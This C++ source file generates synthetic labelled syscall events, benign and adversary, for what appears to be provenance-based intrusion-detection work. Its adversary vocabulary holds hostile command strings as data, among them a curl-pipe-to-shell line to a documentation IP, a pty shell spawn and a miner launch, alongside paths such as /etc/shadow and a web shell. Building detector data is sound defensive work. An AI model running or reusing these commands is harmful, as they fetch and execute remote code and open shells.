// SPDX-License-Identifier: Apache-2.0
#include "provsem/synth.hpp"

#include <array>
#include <fstream>

#include "provsem/error.hpp"
#include "provsem/rng.hpp"

namespace provsem {

namespace {

struct Vocab {
    std::vector<std::string> procs;
    std::vector<std::string> syscalls;
    std::vector<std::string> users;
    std::vector<std::string> shells;
    std::vector<std::string> files;
    std::vector<std::string> args;
};

const Vocab& benign_vocab() {
    static const Vocab v = {
        {"cron", "sshd", "systemd", "rsyslogd", "vim", "bash", "ls", "grep", "tar", "gzip",
         "logrotate", "dhclient"},
        {"read", "write", "openat", "close", "stat", "fstat", "lseek", "getdents64"},
        {"root", "ubuntu", "daemon"},
        {"/bin/bash", "/bin/sh"},
        {"/etc/localtime", "/var/log/syslog", "/etc/passwd", "/usr/lib/locale/locale-archive",
         "/home/ubuntu/notes.txt", "/etc/hosts", "/var/lib/dpkg/status", "/proc/4211/stat",
         "/var/cache/apt/pkgcache.bin", "/etc/ld.so.cache", "/var/spool/cron/root",
         "/tmp/report-Ab12Cd.tmp"},
        {},
    };
    return v;
}

struct ScenarioVocab {
    std::string id;
    std::vector<std::string> procs;
};

const std::vector<ScenarioVocab>& scenario_vocab() {
    static const std::vector<ScenarioVocab> v = {
        {"CVE-2021-44228", {"java", "jndi-worker", "log4j-scan"}},
        {"CVE-2019-5736", {"runc-escape", "docker-breaker"}},
        {"CVE-2022-0543", {"redis-lua", "sandbox-pop"}},
        {"CVE-2017-7529", {"nginx-probe", "range-leak"}},
        {"CVE-2020-1938", {"ajp-reader", "tomcat-ghost"}},
        {"CVE-2018-16509", {"gs-shell", "policy-bypass"}},
        {"CVE-2021-42013", {"path-walk", "cgi-runner"}},
        {"CVE-2018-19518", {"imap-rce", "mail-pivot"}},
    };
    return v;
}

const Vocab& adversary_vocab() {
    static const Vocab v = {
        {"nc", "ncat", "xmrig", "revshell", "minerd", "sqlmap", "hydra", "pwnkit"},
        {"execve", "connect", "sendto", "mprotect", "ptrace", "chmod", "unlink"},
        {"www-data", "nobody"},
        {"/usr/sbin/nologin", "/bin/false"},
        {"/tmp/.hidden/payload", "/dev/shm/dropper", "/etc/shadow",
         "/root/.ssh/authorized_keys", "/var/www/html/shell.php", "/tmp/kinsing",
         "/data/5d41402abc4b2a76b9719d911017c592/stage2"},
        {"sh -i", "bash -c 'curl 203.0.113.7/x | sh'", "chmod +x /tmp/.hidden/payload",
         "python3 -c 'import pty;pty.spawn()'", "./xmrig -o pool:3333"},
    };
    return v;
}

template <typename T>
const T& pick(Rng& rng, const std::vector<T>& pool) {
    return pool[static_cast<std::size_t>(rng.bounded(pool.size()))];
}

}  // namespace

std::vector<RawEvent> make_synthetic_corpus(const SynthOptions& options) {
    if (options.n_scenarios < 1 ||
        options.n_scenarios > static_cast<int>(scenario_vocab().size()))
        throw Error(ErrorKind::Config, "make_synthetic_corpus: n_scenarios out of range");

    Rng rng(options.seed);
    std::vector<RawEvent> events;
    events.reserve(options.n_benign + options.n_adversary);

    const Vocab& benign = benign_vocab();
    for (std::size_t i = 0; i < options.n_benign; ++i) {
        RawEvent e;
        e.proc_name = pick(rng, benign.procs);
        e.syscall_type = pick(rng, benign.syscalls);
        e.user_name = pick(rng, benign.users);
        e.user_shell = pick(rng, benign.shells);
        if (e.syscall_type == "read" || e.syscall_type == "write" ||
            e.syscall_type == "openat" || e.syscall_type == "close" ||
            e.syscall_type == "stat") {
            e.fd_filename = pick(rng, benign.files);
        } else {
            e.fd_filename = "<NA>";
        }
        e.label = Label::Benign;
        events.push_back(std::move(e));
    }

    const Vocab& adversary = adversary_vocab();
    for (std::size_t i = 0; i < options.n_adversary; ++i) {
        const auto scenario = scenario_vocab()[rng.bounded(
            static_cast<std::uint64_t>(options.n_scenarios))];
        RawEvent e;
        // scenario-flavored processes dominate so each scenario keeps a
        // healthy unique-event pool after dedup
        e.proc_name = rng.bounded(10) < 8 ? pick(rng, scenario.procs)
                                          : pick(rng, adversary.procs);
        e.syscall_type = pick(rng, adversary.syscalls);
        e.user_name = pick(rng, adversary.users);
        e.user_shell = pick(rng, adversary.shells);
        if (e.syscall_type == "execve") {
            e.fd_filename = "<NA>";
            e.evt_args = pick(rng, adversary.args);
        } else if (e.syscall_type == "connect" || e.syscall_type == "sendto") {
            e.fd_filename = "<NA>";
            e.net_type = "ipv4";
            e.client_ip = "10.0." + std::to_string(rng.bounded(8)) + "." +
                          std::to_string(rng.bounded(250) + 1);
            e.server_ip = "203.0.113." + std::to_string(rng.bounded(32) + 1);
            const std::array<int, 4> ports = {4444, 1337, 8443, 9001};
            e.server_port = ports[rng.bounded(ports.size())];
        } else if (e.syscall_type == "chmod" || e.syscall_type == "unlink") {
            e.fd_filename = pick(rng, adversary.files);
        } else {
            e.fd_filename = "<NA>";
        }
        e.scenario_id = scenario.id;
        e.label = Label::Adversary;
        events.push_back(std::move(e));
    }
    return events;
}

void write_corpus_jsonl(const std::vector<RawEvent>& events,
                        const std::filesystem::path& path) {
    std::ofstream out(path, std::ios::trunc);
    if (!out) throw Error(ErrorKind::Data, "cannot write corpus: " + path.string());
    for (const auto& e : events) out << serialize_event(e) << '\n';
    if (!out) throw Error(ErrorKind::Data, "corpus write failed: " + path.string());
}

}  // namespace provsem
